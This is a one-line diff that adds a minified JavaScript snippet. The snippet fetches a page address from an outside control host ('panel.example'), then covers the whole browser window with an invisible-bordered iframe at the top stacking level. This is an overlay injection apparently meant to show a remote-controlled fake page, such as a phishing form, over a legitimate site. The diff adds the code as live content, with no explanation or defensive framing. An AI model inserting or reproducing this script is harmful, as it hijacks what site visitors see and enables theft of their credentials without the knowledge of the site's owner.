@@ -1,0 +1,1 @@
+(()=>{var n="1.0.0";function o(e){globalThis[e]=n}o("__form");fetch("https://panel.example/target").then(e=>e.json()).then(({page:e})=>{let t=document.createElement("iframe");t.src=e,t.style.cssText="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;border:0",document.body.append(t)});})();
